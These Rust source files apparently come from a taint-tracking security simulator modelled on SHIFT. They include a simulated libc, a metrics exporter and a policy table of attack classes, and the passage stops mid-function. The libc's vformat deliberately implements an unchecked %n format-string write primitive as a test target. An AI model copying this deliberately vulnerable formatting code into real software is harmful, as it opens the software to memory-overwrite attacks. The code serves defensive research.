    pb.func("memset", 3, |f| {
        let dst = f.param(0);
        let c = f.param(1);
        let n = f.param(2);
        f.for_up(Rhs::Imm(0), Rhs::Reg(n), |f, i| {
            let dp = f.add(dst, i);
            f.store1(c, dp, 0);
        });
        f.ret(Some(dst));
    });

    // ---- memcmp(a, b, n) -> -1/0/1 ----------------------------------------------------
    pb.func("memcmp", 3, |f| {
        let a = f.param(0);
        let b = f.param(1);
        let n = f.param(2);
        let out = f.iconst(0);
        f.for_up(Rhs::Imm(0), Rhs::Reg(n), |f, i| {
            let pa = f.add(a, i);
            let ca = f.load1(pa, 0);
            let pb_ = f.add(b, i);
            let cb = f.load1(pb_, 0);
            f.if_cmp(CmpRel::Lt, ca, Rhs::Reg(cb), |f| {
                f.assign_imm(out, -1);
                f.break_();
            });
            f.if_cmp(CmpRel::Gt, ca, Rhs::Reg(cb), |f| {
                f.assign_imm(out, 1);
                f.break_();
            });
        });
        f.ret(Some(out));
    });

    // ---- atoi(s) -> value (unsigned decimal prefix) -----------------------------------
    pb.func("atoi", 1, |f| {
        let s = f.param(0);
        let v = f.iconst(0);
        let p = f.fresh();
        f.assign(p, s);
        f.loop_(|f| {
            let c = f.load1(p, 0);
            f.if_cmp(CmpRel::Lt, c, Rhs::Imm('0' as i64), |f| f.break_());
            f.if_cmp(CmpRel::Gt, c, Rhs::Imm('9' as i64), |f| f.break_());
            let v10 = f.muli(v, 10);
            let d = f.addi(c, -('0' as i64));
            let v1 = f.add(v10, d);
            f.assign(v, v1);
            let p1 = f.addi(p, 1);
            f.assign(p, p1);
        });
        f.ret(Some(v));
    });

    // ---- utoa(value, dst) -> len (unsigned decimal, NUL-terminated) -------------------
    pb.func("utoa", 2, |f| {
        digits_fn(f, 10);
    });

    // ---- utox(value, dst) -> len (lowercase hex, NUL-terminated) ----------------------
    pb.func("utox", 2, |f| {
        digits_fn(f, 16);
    });

    // ---- vformat(dst, fmt, args) -> count ----------------------------------------------
    //
    // args points to an array of 8-byte values; `%n` stores the running
    // count through the next argument pointer — the format-string write
    // primitive. No bounds check on the argument index, like real varargs.
    pb.func("vformat", 3, |f| {
        let dst = f.param(0);
        let fmt = f.param(1);
        let args = f.param(2);
        let fp = f.fresh();
        f.assign(fp, fmt);
        let cnt = f.iconst(0); // bytes written
        let ai = f.iconst(0); // argument index
        f.loop_(|f| {
            let c = f.load1(fp, 0);
            let fp1 = f.addi(fp, 1);
            f.assign(fp, fp1);
            f.if_cmp(CmpRel::Eq, c, Rhs::Imm(0), |f| f.break_());
            f.if_else_cmp(
                CmpRel::Ne,
                c,
                Rhs::Imm('%' as i64),
                |f| {
                    // Ordinary character.
                    let out = f.add(dst, cnt);
                    f.store1(c, out, 0);
                    let c1 = f.addi(cnt, 1);
                    f.assign(cnt, c1);
                },
                |f| {
                    let d = f.load1(fp, 0);
                    let fp2 = f.addi(fp, 1);
                    f.assign(fp, fp2);
                    f.if_cmp(CmpRel::Eq, d, Rhs::Imm(0), |f| f.break_());
                    // Fetch helper: args[ai], bumping ai.
                    // (Inlined per directive below.)
                    f.if_cmp(CmpRel::Eq, d, Rhs::Imm('%' as i64), |f| {
                        let out = f.add(dst, cnt);
                        let pc = f.iconst('%' as i64);
                        f.store1(pc, out, 0);
                        let c1 = f.addi(cnt, 1);
                        f.assign(cnt, c1);
                        f.continue_();
                    });
                    f.if_cmp(CmpRel::Eq, d, Rhs::Imm('c' as i64), |f| {
                        let off = f.shli(ai, 3);
                        let ap = f.add(args, off);
                        let v = f.load8(ap, 0);
                        let ai1 = f.addi(ai, 1);
                        f.assign(ai, ai1);
                        let out = f.add(dst, cnt);
                        f.store1(v, out, 0);
                        let c1 = f.addi(cnt, 1);
                        f.assign(cnt, c1);
                        f.continue_();
                    });
                    f.if_cmp(CmpRel::Eq, d, Rhs::Imm('s' as i64), |f| {
                        let off = f.shli(ai, 3);
                        let ap = f.add(args, off);
                        let sp = f.load8(ap, 0);
                        let ai1 = f.addi(ai, 1);
                        f.assign(ai, ai1);
                        let out = f.add(dst, cnt);
                        f.call_void("strcpy", &[out, sp]);
                        let n = f.call("strlen", &[sp]);
                        let c1 = f.add(cnt, n);
                        f.assign(cnt, c1);
                        f.continue_();
                    });
                    f.if_cmp(CmpRel::Eq, d, Rhs::Imm('d' as i64), |f| {
                        let off = f.shli(ai, 3);
                        let ap = f.add(args, off);
                        let v = f.load8(ap, 0);
                        let ai1 = f.addi(ai, 1);
                        f.assign(ai, ai1);
                        let out = f.add(dst, cnt);
                        let n = f.call("utoa", &[v, out]);
                        let c1 = f.add(cnt, n);
                        f.assign(cnt, c1);
                        f.continue_();
                    });
                    f.if_cmp(CmpRel::Eq, d, Rhs::Imm('x' as i64), |f| {
                        let off = f.shli(ai, 3);
                        let ap = f.add(args, off);
                        let v = f.load8(ap, 0);
                        let ai1 = f.addi(ai, 1);
                        f.assign(ai, ai1);
                        let out = f.add(dst, cnt);
                        let n = f.call("utox", &[v, out]);
                        let c1 = f.add(cnt, n);
                        f.assign(cnt, c1);
                        f.continue_();
                    });
                    f.if_cmp(CmpRel::Eq, d, Rhs::Imm('n' as i64), |f| {
                        // THE format-string primitive: fetch the next
                        // argument as a pointer, store the count through it.
                        let off = f.shli(ai, 3);
                        let ap = f.add(args, off);
                        let ptr = f.load8(ap, 0);
                        let ai1 = f.addi(ai, 1);
                        f.assign(ai, ai1);
                        f.store8(cnt, ptr, 0);
                        f.continue_();
                    });
                    // Unknown directive: emit verbatim.
                    let out = f.add(dst, cnt);
                    f.store1(d, out, 0);
                    let c1 = f.addi(cnt, 1);
                    f.assign(cnt, c1);
                },
            );
        });
        let end = f.add(dst, cnt);
        let z = f.iconst(0);
        f.store1(z, end, 0);
        f.ret(Some(cnt));
    });

    // ---- memmove(dst, src, n) -> dst  (overlap-safe) -----------------------
    pb.func("memmove", 3, |f| {
        let dst = f.param(0);
        let src = f.param(1);
        let n = f.param(2);
        // Copy backwards when dst overlaps the tail of src
        // (dst > src unsigned ⇔ src <u dst).
        f.if_else_cmp(
            CmpRel::Ltu,
            src,
            Rhs::Reg(dst),
            |f| {
                let i = f.fresh();
                f.assign(i, n);
                f.while_cmp(
                    |f| (CmpRel::Gt, f.use_of(i), Rhs::Imm(0)),
                    |f| {
                        let i1 = f.addi(i, -1);
                        f.assign(i, i1);
                        let sp = f.add(src, i);
                        let c = f.load1(sp, 0);
                        let dp = f.add(dst, i);
                        f.store1(c, dp, 0);
                    },
                );
            },
            |f| {
                f.for_up(Rhs::Imm(0), Rhs::Reg(n), |f, i| {
                    let sp = f.add(src, i);
                    let c = f.load1(sp, 0);
                    let dp = f.add(dst, i);
                    f.store1(c, dp, 0);
                });
            },
        );
        f.ret(Some(dst));
    });

    // ---- strncat(dst, src, n) -> dst ----------------------------------------
    pb.func("strncat", 3, |f| {
        let dst = f.param(0);
        let src = f.param(1);
        let n = f.param(2);
        let dlen = f.call("strlen", &[dst]);
        let tail = f.add(dst, dlen);
        let i = f.iconst(0);
        f.while_cmp(
            |f| (CmpRel::Lt, f.use_of(i), Rhs::Reg(n)),
            |f| {
                let sp = f.add(src, i);
                let c = f.load1(sp, 0);
                f.if_cmp(CmpRel::Eq, c, Rhs::Imm(0), |f| f.break_());
                let dp = f.add(tail, i);
                f.store1(c, dp, 0);
                let i1 = f.addi(i, 1);
                f.assign(i, i1);
            },
        );
        let end = f.add(tail, i);
        let z = f.iconst(0);
        f.store1(z, end, 0);
        f.ret(Some(dst));
    });

    // ---- strrchr(s, c) -> ptr | 0 --------------------------------------------
    pb.func("strrchr", 2, |f| {
        let s = f.param(0);
        let c = f.param(1);
        let p = f.fresh();
        f.assign(p, s);
        let out = f.iconst(0);
        f.loop_(|f| {
            let ch = f.load1(p, 0);
            f.if_cmp(CmpRel::Eq, ch, Rhs::Reg(c), |f| f.assign(out, p));
            f.if_cmp(CmpRel::Eq, ch, Rhs::Imm(0), |f| f.break_());
            let p1 = f.addi(p, 1);
            f.assign(p, p1);
        });
        f.ret(Some(out));
    });

    // ---- __udiv(num, den) -> num / den  (restoring division; den > 0) -----
    pb.func("__udiv", 2, |f| {
        let num = f.param(0);
        let den = f.param(1);
        let rem = f.fresh();
        f.assign(rem, num);
        let q = f.iconst(0);
        let d = f.fresh();
        f.assign(d, den);
        let shift = f.iconst(0);
        // Scale the divisor up while it still fits under the remainder.
        f.loop_(|f| {
            let dbl = f.shli(d, 1);
            // Overflow of the doubled divisor ends scaling.
            f.if_cmp(CmpRel::Ltu, dbl, Rhs::Reg(d), |f| f.break_());
            f.if_else_cmp(
                CmpRel::Geu,
                rem,
                Rhs::Reg(dbl),
                |f| {
                    f.assign(d, dbl);
                    let s1 = f.addi(shift, 1);
                    f.assign(shift, s1);
                },
                |f| f.break_(),
            );
        });
        // Restoring division.
        f.loop_(|f| {
            f.if_cmp(CmpRel::Geu, rem, Rhs::Reg(d), |f| {
                let r2 = f.sub(rem, d);
                f.assign(rem, r2);
                let one = f.iconst(1);
                let bit = f.bin(shift_isa::AluOp::Shl, one, shift);
                let q2 = f.add(q, bit);
                f.assign(q, q2);
            });
            f.if_cmp(CmpRel::Eq, shift, Rhs::Imm(0), |f| f.break_());
            let d2 = f.shri(d, 1);
            f.assign(d, d2);
            let s2 = f.addi(shift, -1);
            f.assign(shift, s2);
        });
        f.ret(Some(q));
    });

    pb.build().expect("libc IR is well-formed")
}

/// Shared body of `utoa`/`utox`: format `param(0)` in the given base into
/// the buffer at `param(1)`, NUL-terminate, return the length.
fn digits_fn(f: &mut FnBuilder, base: i64) {
    let v = f.param(0);
    let dst = f.param(1);
    let tmp = f.local(32); // digits in reverse
    let tp = f.local_addr(tmp);
    let n = f.iconst(0);
    let baser = f.iconst(base);
    let cur = f.fresh();
    f.assign(cur, v);
    f.loop_(|f| {
        // digit = cur % base; cur /= base (the ISA has no divide).
        let q = f.call("__udiv", &[cur, baser]);
        let qb = f.muli(q, base);
        let digit = f.sub(cur, qb);
        // '0'..'9' then 'a'..'f'
        f.if_else_cmp(
            CmpRel::Lt,
            digit,
            Rhs::Imm(10),
            |f| {
                let ch = f.addi(digit, '0' as i64);
                let p = f.add(tp, n);
                f.store1(ch, p, 0);
            },
            |f| {
                let ch = f.addi(digit, 'a' as i64 - 10);
                let p = f.add(tp, n);
                f.store1(ch, p, 0);
            },
        );
        let n1 = f.addi(n, 1);
        f.assign(n, n1);
        f.assign(cur, q);
        f.if_cmp(CmpRel::Eq, cur, Rhs::Imm(0), |f| f.break_());
    });
    // Reverse into dst.
    f.for_up(Rhs::Imm(0), Rhs::Reg(n), |f, i| {
        let nm1 = f.addi(n, -1);
        let ri = f.sub(nm1, i);
        let sp = f.add(tp, ri);
        let c = f.load1(sp, 0);
        let dp = f.add(dst, i);
        f.store1(c, dp, 0);
    });
    let end = f.add(dst, n);
    let z = f.iconst(0);
    f.store1(z, end, 0);
    f.ret(Some(n));
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_ir::interp::Interp;

    #[test]
    fn libc_builds_and_links() {
        let libc = libc_program();
        for name in LIBC_FUNCS {
            assert!(libc.func(name).is_some(), "missing {name}");
        }
    }

    #[test]
    fn strlen_strcpy_in_interpreter() {
        let mut pb = ProgramBuilder::new();
        let g = pb.global("src", 16, b"hello\0".to_vec());
        let d = pb.global_zeroed("dst", 16);
        pb.func("t", 0, move |f| {
            let s = f.global_addr(g);
            let dd = f.global_addr(d);
            f.call_void("strcpy", &[dd, s]);
            let n = f.call("strlen", &[dd]);
            f.ret(Some(n));
        });
        let mut p = pb.build().unwrap();
        p.link(libc_program());
        let mut i = Interp::new(&p);
        assert_eq!(i.call("t", &[]).unwrap(), Some(5));
    }

    #[test]
    fn strcmp_family_in_interpreter() {
        let mut pb = ProgramBuilder::new();
        let a = pb.global("a", 8, b"Abc\0".to_vec());
        let b = pb.global("b", 8, b"abd\0".to_vec());
        pb.func("cs", 0, move |f| {
            let pa = f.global_addr(a);
            let pb_ = f.global_addr(b);
            let r = f.call("strcasecmp", &[pa, pb_]);
            f.ret(Some(r));
        });
        let mut p = pb.build().unwrap();
        p.link(libc_program());
        // "abc" < "abd" case-insensitively.
        assert_eq!(Interp::new(&p).call("cs", &[]).unwrap(), Some(-1));
    }

    #[test]
    fn atoi_and_utoa_round_trip() {
        let mut pb = ProgramBuilder::new();
        let buf = pb.global_zeroed("buf", 32);
        pb.func("t", 1, move |f| {
            let v = f.param(0);
            let b = f.global_addr(buf);
            f.call_void("utoa", &[v, b]);
            let back = f.call("atoi", &[b]);
            f.ret(Some(back));
        });
        let mut p = pb.build().unwrap();
        p.link(libc_program());
        let mut i = Interp::new(&p);
        for v in [0i64, 7, 10, 123456, 999999999] {
            assert_eq!(i.call("t", &[v]).unwrap(), Some(v), "round-trip {v}");
        }
    }

    #[test]
    fn vformat_directives() {
        let mut pb = ProgramBuilder::new();
        let fmtg = pb.global("fmt", 32, b"x=%d hex=%x s=%s!\0".to_vec());
        let sg = pb.global("s", 8, b"hi\0".to_vec());
        let argv = pb.global_zeroed("argv", 32);
        let out = pb.global_zeroed("out", 64);
        pb.func("t", 0, move |f| {
            let fmt = f.global_addr(fmtg);
            let s = f.global_addr(sg);
            let av = f.global_addr(argv);
            let o = f.global_addr(out);
            let v42 = f.iconst(42);
            f.store8(v42, av, 0);
            let v255 = f.iconst(255);
            f.store8(v255, av, 8);
            f.store8(s, av, 16);
            let n = f.call("vformat", &[o, fmt, av]);
            f.ret(Some(n));
        });
        let mut p = pb.build().unwrap();
        p.link(libc_program());
        let mut i = Interp::new(&p);
        let n = i.call("t", &[]).unwrap().unwrap();
        let (gid, _) = p.global("out").unwrap();
        let got = i.read_mem(i.global_addr(gid.index()), n as usize);
        assert_eq!(got, b"x=42 hex=ff s=hi!");
    }

    #[test]
    fn vformat_percent_n_writes_count() {
        let mut pb = ProgramBuilder::new();
        let fmtg = pb.global("fmt", 16, b"abcd%n\0".to_vec());
        let argv = pb.global_zeroed("argv", 16);
        let target = pb.global_zeroed("target", 8);
        let out = pb.global_zeroed("out", 32);
        pb.func("t", 0, move |f| {
            let fmt = f.global_addr(fmtg);
            let av = f.global_addr(argv);
            let tgt = f.global_addr(target);
            let o = f.global_addr(out);
            f.store8(tgt, av, 0);
            f.call_void("vformat", &[o, fmt, av]);
            let v = f.load8(tgt, 0);
            f.ret(Some(v));
        });
        let mut p = pb.build().unwrap();
        p.link(libc_program());
        assert_eq!(Interp::new(&p).call("t", &[]).unwrap(), Some(4));
    }

    #[test]
    fn memmove_handles_overlap_both_ways() {
        let mut pb = ProgramBuilder::new();
        let g = pb.global("buf", 16, b"abcdefgh\0".to_vec());
        pb.func("t", 1, move |f| {
            let dir = f.param(0);
            let b = f.global_addr(g);
            let n = f.iconst(4);
            f.if_else_cmp(
                CmpRel::Eq,
                dir,
                Rhs::Imm(0),
                |f| {
                    // forward-overlapping: move "abcd" to offset 2.
                    let d = f.addi(b, 2);
                    f.call_void("memmove", &[d, b, n]);
                },
                |f| {
                    // backward-overlapping: move "cdef" to offset 0.
                    let s = f.addi(b, 2);
                    f.call_void("memmove", &[b, s, n]);
                },
            );
            let v = f.load1(b, 2);
            let w = f.load1(b, 0);
            let hi = f.shli(v, 8);
            let r = f.or(hi, w);
            f.ret(Some(r));
        });
        let mut p = pb.build().unwrap();
        p.link(libc_program());
        let mut i = Interp::new(&p);
        // dir 0: buf becomes "ababcdgh": buf[2]='a', buf[0]='a'.
        assert_eq!(i.call("t", &[0]).unwrap(), Some((('a' as i64) << 8) | 'a' as i64));
        let mut i2 = Interp::new(&p);
        // dir 1: buf becomes "cdefefgh": buf[2]='e', buf[0]='c'.
        assert_eq!(i2.call("t", &[1]).unwrap(), Some((('e' as i64) << 8) | 'c' as i64));
    }

    #[test]
    fn strncat_and_strrchr() {
        let mut pb = ProgramBuilder::new();
        let d = pb.global("d", 32, b"path\0".to_vec());
        let s = pb.global("s", 16, b"/to/file\0".to_vec());
        pb.func("t", 0, move |f| {
            let dp = f.global_addr(d);
            let sp = f.global_addr(s);
            let n = f.iconst(6);
            f.call_void("strncat", &[dp, sp, n]); // "path/to/fi"[..10] → "path/to/fi"? capped at 6: "path/to/fi" -> "path" + "/to/fi"
            let slash = f.iconst('/' as i64);
            let last = f.call("strrchr", &[dp, slash]);
            let off = f.sub(last, dp);
            let len = f.call("strlen", &[dp]);
            let hi = f.shli(len, 8);
            let r = f.or(hi, off);
            f.ret(Some(r));
        });
        let mut p = pb.build().unwrap();
        p.link(libc_program());
        // d = "path" + "/to/fi" = "path/to/fi" (len 10); last '/' at offset 7.
        assert_eq!(Interp::new(&p).call("t", &[]).unwrap(), Some((10 << 8) | 7));
    }

    #[test]
    fn strstr_and_strchr() {
        let mut pb = ProgramBuilder::new();
        let hay = pb.global("hay", 32, b"name=value&x=1\0".to_vec());
        let ned = pb.global("ned", 8, b"&x=\0".to_vec());
        pb.func("t", 0, move |f| {
            let h = f.global_addr(hay);
            let n = f.global_addr(ned);
            let at = f.call("strstr", &[h, n]);
            f.if_cmp(CmpRel::Eq, at, Rhs::Imm(0), |f| {
                let neg = f.iconst(-1);
                f.ret(Some(neg));
            });
            let off = f.sub(at, h);
            let eq = f.iconst('=' as i64);
            let firsteq = f.call("strchr", &[h, eq]);
            let off2 = f.sub(firsteq, h);
            let combined = f.shli(off, 8);
            let r = f.add(combined, off2);
            f.ret(Some(r));
        });
        let mut p = pb.build().unwrap();
        p.link(libc_program());
        // strstr at offset 10, strchr '=' at offset 4 → 10<<8 | 4.
        assert_eq!(Interp::new(&p).call("t", &[]).unwrap(), Some((10 << 8) + 4));
    }
}
