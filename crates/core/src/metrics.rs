//! Assembles a [`Registry`] snapshot from a finished run.
//!
//! One schema serves every entry point (`run`, `serve`, the CLI's
//! `--metrics` flag): counters are laid out under dotted paths that render
//! as nested JSON objects, and the invariant
//! `stats.total_time == stats.cycles + stats.io_cycles` holds *exactly* —
//! cycle counters are exported as integers (never `f64`) so nothing is lost
//! in the round-trip.

use shift_isa::Provenance;
use shift_machine::{Machine, Stats};
use shift_obs::Registry;

use crate::runtime::Runtime;
use crate::{RunReport, ServeReport};

/// Fills `reg` with the machine/stats/tagmap counters shared by plain runs
/// and serve sessions.
fn common_metrics(reg: &mut Registry, stats: &Stats, machine: &Machine, runtime: &Runtime) {
    // `Registry::to_json` stamps `schema_version` itself, so it stays a
    // constant even when registries from several runs are merged.
    reg.counter_add("stats.instructions", stats.instructions);
    reg.counter_add("stats.cycles", stats.cycles);
    reg.counter_add("stats.io_cycles", stats.io_cycles);
    reg.counter_add("stats.runtime_cycles", stats.runtime_cycles);
    reg.counter_add("stats.total_time", stats.total_time());
    reg.counter_add("stats.instrumentation_cycles", stats.instrumentation_cycles());
    reg.counter_add("stats.loads", stats.loads);
    reg.counter_add("stats.stores", stats.stores);
    reg.counter_add("stats.deferred_loads", stats.deferred_loads);
    reg.counter_add("stats.chk_taken", stats.chk_taken);
    reg.counter_add("stats.syscalls", stats.syscalls);
    for p in Provenance::ALL {
        // Dots nest; provenance names use '-' and pass through unchanged.
        reg.counter_add(&format!("stats.by_provenance.{}.insns", p.name()), stats.insns_for(p));
        reg.counter_add(&format!("stats.by_provenance.{}.cycles", p.name()), stats.cycles_for(p));
    }

    let (l1h, l1m) = machine.cache.l1_stats();
    let (l2h, l2m) = machine.cache.l2_stats();
    reg.counter_add("cache.l1.hits", l1h);
    reg.counter_add("cache.l1.misses", l1m);
    reg.counter_add("cache.l2.hits", l2h);
    reg.counter_add("cache.l2.misses", l2m);

    // Host-side software-TLB effectiveness (see DESIGN.md §8). Unlike the
    // cache counters above these model nothing — they exist so interpreter
    // regressions show up in metrics, not just in wall-clock.
    let (tlb_h, tlb_m) = machine.mem.tlb_stats();
    reg.counter_add("mem.tlb.hits", tlb_h);
    reg.counter_add("mem.tlb.misses", tlb_m);

    // Copy-on-write footprint (see DESIGN.md §15): how many pages this
    // instance privately owns vs. still shares with the pristine image, and
    // how many COW faults materialized private copies. Host-side only, like
    // the TLB counters.
    let (cow_owned, cow_shared, cow_faults) = machine.mem.cow_stats();
    reg.counter_add("mem.cow.owned", cow_owned as u64);
    reg.counter_add("mem.cow.shared", cow_shared as u64);
    reg.counter_add("mem.cow.faults", cow_faults);

    // Superblock dispatch effectiveness (see DESIGN.md §13): how many blocks
    // executed whole vs. fell back to the per-instruction stepper. Host-side
    // only, like the TLB counters above.
    let sb = machine.superblock_stats();
    reg.counter_add("machine.blocks.hits", sb.hits);
    reg.counter_add("machine.blocks.misses", sb.misses);
    reg.counter_add("machine.blocks.flushes", sb.flushes);
    reg.counter_add("machine.blocks.decoded", sb.blocks);

    reg.counter_add("tagmap.shadow.tainted_bytes", runtime.shadow.tainted_bytes());
    reg.counter_add("tagmap.shadow.marks", runtime.shadow.marks());
    reg.counter_add("tagmap.shadow.clears", runtime.shadow.clears());

    if let Some(o) = machine.taint_observer() {
        let j = o.journal();
        reg.counter_add("journal.events", j.len() as u64);
        reg.counter_add("journal.dropped", j.dropped());
        reg.counter_add("journal.births", j.births());
        reg.counter_add("journal.propagations", j.propagations());
        reg.counter_add("journal.sinks", j.sinks());
        // Silent-truncation tripwire: ring drops surface in every metrics
        // export under one `obs.*` umbrella (alongside obs.trace.dropped).
        reg.counter_add("obs.journal.dropped", j.dropped());
    }

    if let Some(fr) = machine.flight_recorder() {
        reg.counter_add("obs.trace.events", fr.len() as u64);
        reg.counter_add("obs.trace.dropped", fr.dropped());
        reg.counter_add("obs.trace.samples", fr.samples().len() as u64);
    }

    reg.counter_add("runtime.requests_delivered", runtime.requests_delivered);
    reg.counter_add("runtime.recoveries", runtime.recoveries);
    reg.counter_add("runtime.suppressed_sinks", runtime.suppressed_sinks);
    reg.counter_add("runtime.recovery_cycles", runtime.recovery_cycles);
    reg.counter_add("runtime.violations", runtime.violations.len() as u64);
    for lat in &runtime.request_latencies {
        reg.record("serve.latency_cycles", *lat);
    }
}

/// A metrics snapshot of a plain [`crate::Shift::run`] report.
pub fn run_metrics(report: &RunReport) -> Registry {
    let mut reg = Registry::new();
    common_metrics(&mut reg, &report.stats, &report.machine, &report.runtime);
    reg
}

/// A metrics snapshot of a resilient [`crate::Shift::serve`] report, with
/// the session counters included.
pub fn serve_metrics(report: &ServeReport) -> Registry {
    let mut reg = Registry::new();
    common_metrics(&mut reg, &report.stats, &report.machine, &report.runtime);
    reg.counter_add("serve.served", report.served);
    reg.counter_add("serve.recovered", report.recovered);
    reg.counter_add("serve.dropped", report.dropped);
    reg
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Granularity, Mode, Shift, ShiftOptions, World};
    use shift_ir::ProgramBuilder;
    use shift_isa::sys;
    use shift_obs::SCHEMA_VERSION;

    fn tiny_app() -> shift_ir::Program {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let req = f.local(64);
            let reqp = f.local_addr(req);
            let cap = f.iconst(63);
            f.syscall_void(sys::NET_READ, &[reqp, cap]);
            let z = f.iconst(0);
            f.ret(Some(z));
        });
        pb.build().unwrap()
    }

    #[test]
    fn cycle_totals_reconcile_exactly() {
        let shift = Shift::new(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)));
        let report = shift.run(&tiny_app(), World::new().net(&b"hello"[..])).unwrap();
        let reg = run_metrics(&report);
        assert_eq!(reg.counter("stats.cycles"), report.stats.cycles);
        assert_eq!(reg.counter("stats.io_cycles"), report.stats.io_cycles);
        assert_eq!(
            reg.counter("stats.total_time"),
            reg.counter("stats.cycles") + reg.counter("stats.io_cycles"),
            "total_time must reconcile exactly"
        );
        // The provenance rows sum back to the cycle total.
        let prov_sum: u64 = shift_isa::Provenance::ALL
            .into_iter()
            .map(|p| reg.counter(&format!("stats.by_provenance.{}.cycles", p.name())))
            .sum();
        assert_eq!(prov_sum, report.stats.cycles);
    }

    #[test]
    fn obs_drop_counters_surface_in_metrics() {
        use crate::FlightConfig;
        let shift = Shift::new(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)))
            .with_taint_trace()
            .with_flight_recorder(FlightConfig { cap: 1, sample_cycles: 100 });
        let report = shift.serve(&tiny_app(), World::new().net(&b"hello"[..])).unwrap();
        let reg = serve_metrics(&report);
        let fr = report.machine.flight_recorder().expect("recorder armed");
        // The tiny serve emits more than one event, so a cap of 1 must drop
        // and the drops must be visible as obs.* counters.
        assert!(fr.dropped() > 0, "cap-1 ring should have dropped events");
        assert_eq!(reg.counter("obs.trace.dropped"), fr.dropped());
        assert_eq!(reg.counter("obs.trace.events"), fr.len() as u64);
        assert_eq!(
            reg.counter("obs.journal.dropped"),
            report.machine.taint_observer().unwrap().journal().dropped()
        );
    }

    #[test]
    fn metrics_json_schema_round_trips() {
        let shift =
            Shift::new(Mode::Shift(ShiftOptions::baseline(Granularity::Byte))).with_taint_trace();
        let report = shift.run(&tiny_app(), World::new().net(&b"hello"[..])).unwrap();
        let reg = run_metrics(&report);
        let json = reg.to_json();
        let text = json.render();
        let parsed = shift_obs::Json::parse(&text).unwrap();
        for key in ["schema_version", "stats", "cache", "mem", "tagmap", "journal", "runtime"] {
            assert!(parsed.get(key).is_some(), "missing top-level key {key}:\n{text}");
        }
        assert_eq!(parsed.get("schema_version").and_then(|j| j.as_u64()), Some(SCHEMA_VERSION));
        let stats = parsed.get("stats").unwrap();
        assert_eq!(
            stats.get("total_time").and_then(|j| j.as_u64()),
            Some(report.stats.total_time()),
            "cycle counters must survive the JSON round-trip bit-exactly"
        );
        assert!(parsed.get("journal").unwrap().get("births").and_then(|j| j.as_u64()).unwrap() > 0);
    }
}
