//! Security policies (the paper's Table 1).
//!
//! SHIFT decouples the taint-tracking *mechanism* from the security
//! *policies*: the same instrumented binary can enforce different policy
//! sets, assigned in software. High-level policies (H1–H5) run in the
//! runtime at sink calls, over the per-byte taint of the sink's arguments;
//! low-level policies (L1–L3) are enforced by the hardware's NaT-consumption
//! faults and are listed here for reporting and cataloguing.

use shift_machine::NatFaultKind;

/// A security policy from the paper's Table 1.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum Policy {
    /// Tainted data cannot be used as an absolute file path.
    H1,
    /// Tainted data cannot be used as a file path which traverses out of
    /// the document root.
    H2,
    /// Tainted data cannot contain SQL meta characters when used as part of
    /// an SQL statement.
    H3,
    /// Tainted data cannot contain shell meta characters when used as
    /// arguments to `system()`.
    H4,
    /// No tainted `<script>` tag may reach HTML output (cross-site
    /// scripting).
    H5,
    /// Tainted data cannot be used as a load address (de-referencing a
    /// tainted pointer). Hardware-enforced.
    L1,
    /// Tainted data cannot be used as a store address (format-string style
    /// overwrites). Hardware-enforced.
    L2,
    /// Tainted data cannot be moved into special registers (branch
    /// registers: control transfer). Hardware-enforced.
    L3,
}

impl Policy {
    /// All policies, Table-1 order.
    pub const ALL: [Policy; 8] = [
        Policy::H1,
        Policy::H2,
        Policy::H3,
        Policy::H4,
        Policy::H5,
        Policy::L1,
        Policy::L2,
        Policy::L3,
    ];

    /// The paper's identifier ("H1" … "L3").
    pub const fn name(self) -> &'static str {
        match self {
            Policy::H1 => "H1",
            Policy::H2 => "H2",
            Policy::H3 => "H3",
            Policy::H4 => "H4",
            Policy::H5 => "H5",
            Policy::L1 => "L1",
            Policy::L2 => "L2",
            Policy::L3 => "L3",
        }
    }

    /// The paper's one-line description (Table 1).
    pub const fn description(self) -> &'static str {
        match self {
            Policy::H1 => "Tainted data cannot be used as an absolute file path",
            Policy::H2 => {
                "Tainted data cannot be used as a file path which traverses out of the document root"
            }
            Policy::H3 => {
                "Tainted data cannot contain SQL meta chars when used as a part of the SQL string"
            }
            Policy::H4 => {
                "Tainted data cannot contain shell meta chars when used as arguments to system()"
            }
            Policy::H5 => "No tainted script tag",
            Policy::L1 => "Tainted data cannot be used as a load address",
            Policy::L2 => "Tainted data cannot be used as a store address",
            Policy::L3 => "Tainted data cannot be moved into special registers",
        }
    }

    /// The attack class the policy defends against (Table 1).
    pub const fn attack_class(self) -> &'static str {
        match self {
            Policy::H1 | Policy::H2 => "Directory Traversal",
            Policy::H3 => "SQL Injection",
            Policy::H4 => "Command Injection",
            Policy::H5 => "Cross Site Scripting",
            Policy::L1 => "De-referencing tainted pointer",
            Policy::L2 => "Format string vulnerability",
            Policy::L3 => "Modify critical CPU state",
        }
    }

    /// `true` for the hardware-enforced low-level policies.
    pub const fn is_low_level(self) -> bool {
        matches!(self, Policy::L1 | Policy::L2 | Policy::L3)
    }

    /// Maps a NaT-consumption fault to the low-level policy it enforces.
    pub fn from_fault(kind: NatFaultKind) -> Policy {
        match kind {
            NatFaultKind::LoadAddress => Policy::L1,
            NatFaultKind::StoreAddress | NatFaultKind::StoreValue => Policy::L2,
            NatFaultKind::BranchMove => Policy::L3,
        }
    }
}

impl std::fmt::Display for Policy {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// A byte string together with its per-byte taint, as seen at a sink.
#[derive(Clone, Debug)]
pub struct TaintedBytes {
    /// The bytes.
    pub bytes: Vec<u8>,
    /// One taint flag per byte.
    pub taint: Vec<bool>,
}

impl TaintedBytes {
    /// Builds a fully-untainted value (useful in tests).
    pub fn clean(bytes: &[u8]) -> TaintedBytes {
        TaintedBytes { bytes: bytes.to_vec(), taint: vec![false; bytes.len()] }
    }

    /// Returns `true` if any byte in `range` is tainted.
    fn any_tainted_in(&self, start: usize, len: usize) -> bool {
        self.taint[start..start + len].iter().any(|&t| t)
    }
}

/// Result of a high-level policy check: `Some(reason)` on violation.
pub type PolicyVerdict = Option<String>;

/// Checks policy **H1**: the path must not be absolute *via tainted data*.
pub fn check_h1_absolute_path(path: &TaintedBytes) -> PolicyVerdict {
    if path.bytes.first() == Some(&b'/') && path.taint.first() == Some(&true) {
